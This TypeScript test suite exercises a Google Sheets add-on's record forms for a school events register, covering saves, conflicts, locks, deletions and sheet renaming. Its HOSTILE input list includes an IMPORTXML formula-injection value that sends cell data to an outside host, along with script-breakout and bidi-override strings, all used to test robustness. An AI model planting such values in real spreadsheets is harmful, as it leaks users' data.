/** The forms from end to end: what a sidebar asks of the built add-on, what then stands in the sheets. */

import {readFileSync} from 'node:fs';
import fc from 'fast-check';
import {select} from '../../local/book/focus';
import {createHost, type Host} from '../../local/host';
import type {Cells, Form, SaveAnswer, SaveRequest} from '../../src/contract';
import type {TableName} from '../../src/model/schema';
import {ask, PEOPLE, peopledBook, type Person} from '../rights/people';
import {columnOf, holdLock, onSheet, put, valuesOf} from './small-book';

const host = peopledBook();
let presses = 0;

/** Opens a form, and must get one. */
function open(
  table: TableName,
  code?: string,
  person: Person = 'coordinator',
): Form {
  const answer = ask(host, person, 'openForm', {table, code});
  if (answer.state !== 'form') throw new Error(JSON.stringify(answer));
  return answer.form;
}

function save(
  {table, code, cells: opened}: Form,
  cells: Cells,
  more: Partial<SaveRequest> & {person?: Person} = {},
): SaveAnswer {
  const {person = 'coordinator', ...rest} = more;
  return ask(host, person, 'saveRecord', {
    token: `press ${++presses}`,
    table,
    ...(code === undefined ? {} : {code}),
    opened,
    cells,
    notSame: [],
    ...rest,
  });
}

function saved(...asked: Parameters<typeof save>) {
  const answer = save(...asked);
  if (answer.state !== 'saved') throw new Error(JSON.stringify(answer));
  return answer;
}

/** The coordinator puts the cursor into a row of a sheet. */
function point(sheet: string, row: number): void {
  const area = {row: row - 1, column: 2, rows: 1, columns: 1};
  select(host.book.sheetByName(sheet)!, [area], PEOPLE.coordinator);
}

const events = () => valuesOf(host, 'Мероприятия');
const journalRows = () => valuesOf(host, 'Журнал').length;

test('A record is added by a form, and its form opens with what was saved', () => {
  const cells = {
    title: 'Слёт отличников',
    period: 'сентябрь 2023 – май 2028гг.',
    grades: '6, 8 и 10 классов',
    partners: 'ни тгу',
    count: '3',
    note: 'первая строка\nвторая',
  };
  const {code, cells: now, missing} = saved(open('events'), cells);
  expect(missing).toEqual([]);
  expect(now).toMatchObject({
    institution: 'Школа № 1',
    period: 'сентябрь 2023 г. – май 2028 г.',
    grades: '6, 8, 10 классы',
    partners: 'ТГУ',
    count: 3,
    note: 'первая строка\nвторая',
  });
  expect(open('events', code).cells).toEqual(now);
  const last = events().slice(-1)[0];
  expect(last.slice(0, 2)).toEqual([code, 'Школа № 1']);
  // Hidden companions are there at once: the code, the term, the partner's code, the count.
  expect(last).toEqual(
    expect.arrayContaining(['УЧР-0001', 'закрыт', 'ПРТ-0001', 3]),
  );
});

test('What is opened and saved unchanged writes nothing', () => {
  const form = open('events', 'МЕР-0001');
  const [before, rows] = [events(), journalRows()];
  expect(saved(form, form.cells).message).toContain('ничего не изменилось');
  expect(events()).toEqual(before);
  expect(journalRows()).toBe(rows);
});

test('A repeated press makes one record and is answered as the first', () => {
  const form = open('events');
  const cells = {title: 'Эстафета', period: '2024'};
  const first = save(form, cells, {token: 'the same press'});
  const rows = events().length;
  expect(save(form, cells, {token: 'the same press'})).toEqual(first);
  expect(events()).toHaveLength(rows);
});

test('A press is repeated by the same person and the same button alone', () => {
  const form = open('events');
  const cells = {title: 'Кросс', period: '2024'};
  const {code} = saved(form, cells, {token: 'a known press'});
  const rows = events();
  expect(
    save(form, cells, {token: 'a known press', person: 'association'}),
  ).toMatchObject({
    state: 'refused',
    message: expect.stringContaining('повторила чужое или другое') as string,
  });
  const opened = open('events', code).cells;
  const request = {token: 'a known press', table: 'events', code, opened};
  expect(ask(host, 'coordinator', 'deleteRecord', request)).toMatchObject({
    state: 'refused',
  });
  expect(events()).toEqual(rows);
});

test('A repeated press of a record too long for the journal is answered whole', () => {
  const long = 'я'.repeat(19_000);
  const cells = {title: 'Долгая', state: 'черновик', aim: long, tasks: long};
  const form = open('practices');
  const first = saved(form, cells, {token: 'a long press'});
  expect(first.cells).toMatchObject({aim: long, tasks: long});
  expect(save(form, cells, {token: 'a long press'})).toEqual(first);
});

test('Two people on one record: fields apart are both kept, one field is shown twice', () => {
  const mine = open('events', 'МЕР-0001');
  const theirs = open('events', 'МЕР-0001', 'association');
  saved(
    theirs,
    {note: 'от ассоциации', format: 'очный'},
    {person: 'association'},
  );
  expect(save(mine, {format: 'заочный', level: 'районный'})).toMatchObject({
    state: 'conflict',
    fields: [{key: 'format', opened: '', now: 'очный', mine: 'заочный'}],
  });
  expect(open('events', 'МЕР-0001').cells.level).toBe('');
  const {cells} = saved(mine, {level: 'районный'});
  expect(cells).toMatchObject({note: 'от ассоциации', level: 'районный'});
});

test('What a person changed between looking and writing is not written over', () => {
  const form = open('events', 'МЕР-0001');
  let isTyped = false;
  host.hooks = {
    beforeCall: ({method}) => {
      if (method !== 'appendRow' && method !== 'flush') return;
      if (isTyped) return;
      isTyped = true;
      put(host, 'Мероприятия', 2, {Классы: '5 классы'});
    },
  };
  const answer = save(form, {grades: '7 классы'});
  host.hooks = {};
  expect(answer).toMatchObject({state: 'refused', again: true});
  expect(open('events', 'МЕР-0001').cells.grades).toBe('5 классы');
});

test('A spelling that the add-on mends by the way does not win over what the person wants', () => {
  put(host, 'Мероприятия', 2, {Уровень: 'Региональный '});
  const form = open('events', 'МЕР-0001');
  expect(form.cells.level).toBe('Региональный ');
  saved(form, {level: 'федеральный'});
  expect(columnOf(host, 'Мероприятия', 'Уровень')[0]).toBe('федеральный');
});

test('A formula in a field that was left alone stays', () => {
  onSheet(host, 'Мероприятия', sheet => {
    const at = sheet.createTextFinder('Количество').findNext()!.getColumn();
    sheet.getRange(2, at).setFormula('=1+1');
  });
  const form = open('events', 'МЕР-0001');
  expect(form.cells.count).toBe(2);
  saved(form, {...form.cells, note: 'рядом с формулой'});
  const formulas = onSheet(host, 'Мероприятия', sheet =>
    sheet.getDataRange().getFormulas().flat(),
  );
  expect(formulas).toContain('=1+1');
});

test('A record with a formula, and with a spelling that is mended by the way, is deleted whole', () => {
  const {code} = saved(open('events'), {title: 'На час', period: '2024'});
  const row = columnOf(host, 'Мероприятия', 'Код').indexOf(code) + 2;
  put(host, 'Мероприятия', row, {Формат: 'Очный '});
  onSheet(
    host,
    'Мероприятия',
    (sheet, at) => {
      const link = sheet.createTextFinder('Ссылка').findNext()!.getColumn();
      sheet
        .getRange(at, link)
        .setNumberFormat('0')
        .setFormula('="http://a.ru"');
    },
    row,
  );
  const {cells} = open('events', code);
  const request = {token: 'whole', table: 'events', code, opened: cells};
  expect(ask(host, 'coordinator', 'deleteRecord', request).state).toBe('saved');
  const [header, ...rows] = events();
  const visible = header.indexOf('Учреждение · код');
  const left = rows[row - 2]?.slice(0, visible) ?? [];
  expect(left.every(cell => cell === '')).toBe(true);
});

test('A busy book: the form keeps its text and may ask again', () => {
  const free = holdLock(host);
  const answer = save(open('events'), {title: 'Подождёт', period: '2024'});
  free();
  expect(answer).toMatchObject({state: 'refused', again: true});
});

test('A row without a code gets one when its form is opened, and is saved by it', () => {
  const row = events().length + 1;
  put(host, 'Мероприятия', row, {
    Учреждение: 'Школа № 1',
    'Форма и название мероприятия': 'Вставлено мимо',
    'Дата проведения': '2024',
  });
  point('Мероприятия', row);
  const answer = ask(host, 'coordinator', 'openForm', {});
  if (answer.state !== 'form') throw new Error(JSON.stringify(answer));
  const {form} = answer;
  expect(form).toMatchObject({row, cells: {title: 'Вставлено мимо'}});
  expect(columnOf(host, 'Мероприятия', 'Код')[row - 2]).toBe(form.code);
  expect(saved(form, {note: 'а'}).code).toBe(form.code);
});

test('Giving codes and undoing leave the hidden companions of other rows as they were', () => {
  const companions = () => columnOf(host, 'Мероприятия', 'Партнёры · коды');
  const before = companions();
  expect(before).toContain('ПРТ-0001; ПРТ-0002');
  saved(open('events', 'МЕР-0001'), {note: 'на минуту'});
  ask(host, 'coordinator', 'undoLast', {token: 'undoing'});
  expect(companions()).toEqual(before);
});

test('The cursor on a page of the add-on, or on a header, is told', () => {
  const at = (sheet: string) => {
    point(sheet, 1);
    return ask(host, 'coordinator', 'openForm', {});
  };
  expect(at('Баллы')).toMatchObject({
    state: 'choose',
    message: expect.stringContaining('на листе «Баллы»') as string,
  });
  expect(at('Площадки')).toMatchObject({
    state: 'choose',
    tables: [{table: 'sites', sheet: 'Площадки'}],
  });
});

test('A renamed sheet is offered under its name', () => {
  const rename = (name: string) =>
    onSheet(
      host,
      name === 'Дела' ? 'Практики' : 'Дела',
      (sheet, to) => {
        sheet.setName(to);
      },
      name,
    );
  rename('Дела');
  const answer = ask(host, 'coordinator', 'openForm', {add: true});
  rename('Практики');
  if (answer.state !== 'choose') throw new Error(answer.state);
  expect(answer.tables).toContainEqual({table: 'practices', sheet: 'Дела'});
  expect(answer.tables.map(({table}) => table)).not.toContain('networks');
});

test('A partner renamed by the association is renamed at every event, companions with it', () => {
  const form = open('partners', 'ПРТ-0001', 'association');
  const codes = () => columnOf(host, 'Мероприятия', 'Партнёры · коды');
  const before = codes();
  saved(
    form,
    {shortName: 'Университет', synonyms: ''},
    {person: 'association'},
  );
  const names = columnOf(host, 'Мероприятия', 'Партнёры').map(String);
  expect(names).toContain('Университет; Музей города');
  expect(names.join()).not.toContain('ТГУ');
  host.run('computeScores');
  expect(codes()).toEqual(before);
});

test('A deleted record is gone, and refused by the form that was open', () => {
  const form = open('events', 'МЕР-0001');
  const request = {
    table: 'events',
    code: 'МЕР-0001',
    opened: form.cells,
    token: 'deleting',
  };
  expect(ask(host, 'other', 'deleteRecord', request)).toMatchObject({
    state: 'refused',
  });
  expect(ask(host, 'coordinator', 'deleteRecord', request)).toMatchObject({
    state: 'saved',
    code: 'МЕР-0001',
  });
  expect(columnOf(host, 'Мероприятия', 'Код')).not.toContain('МЕР-0001');
  expect(save(form, {note: 'поздно'})).toMatchObject({
    state: 'refused',
    message: expect.stringContaining('её удалили') as string,
  });
});

test('A register is searched as the book knows its names', () => {
  expect(
    ask(host, 'coordinator', 'searchRegister', {
      table: 'partners',
      text: 'музей',
    }),
  ).toEqual({
    state: 'found',
    rows: [{code: 'ПРТ-0002', name: 'Музей города', otherNames: []}],
  });
});

const HOSTILE = [
  '=IMPORTXML("http://x?"&A1)',
  '+1',
  '-2+3',
  '@x',
  "'",
  "''007",
  '007',
  '1E5',
  'ИСТИНА',
  '6-11',
  '12.10.2022',
  '</script><b>',
  '🎓\u202eа',
  'а\tб',
];

test('Any text reads back as it was typed, but for spaces', () => {
  const fields = ['aim', 'tasks', 'audience', 'essence', 'activities', 'note'];
  const random = fc.sample(fc.string({minLength: 1, unit: 'grapheme'}), {
    seed: 7,
    numRuns: 10,
  });
  const texts = [...HOSTILE, ...random];
  const {code} = saved(open('practices'), {title: 'Тексты'});
  const bare = (text: unknown) => String(text).replace(/\s|\p{Cf}/gu, '');
  for (let at = 0; at < texts.length; at += fields.length) {
    const typed = Object.fromEntries(
      fields.map((key, i) => [key, texts[at + i] ?? '']),
    );
    const {cells} = saved(open('practices', code), typed);
    expect(open('practices', code).cells).toEqual(cells);
    for (const key of fields) expect(bare(cells[key])).toBe(bare(typed[key]));
  }
});

test('The menu opens the form with what was chosen', () => {
  const files = {
    'Code.js': readFileSync('dist/Code.js', 'utf8'),
    'appsscript.json': readFileSync('dist/appsscript.json', 'utf8'),
    'form.html': '<p>форма</p>',
  };
  const shown = (item: string): string => {
    const bare: Host = createHost({files, person: 'a@example.org'});
    bare.open();
    bare.choose(['Инносеть', item]);
    return bare.ui.panels.map(({title, html}) => `${title}: ${html}`).join();
  };
  expect(shown('Добавить запись')).toBe(
    'Добавить запись: <p>форма</p><script type="application/json" id="opened-with">{"add":true}</script>',
  );
  expect(shown('Открыть запись строки')).toContain('id="opened-with">{}<');
});
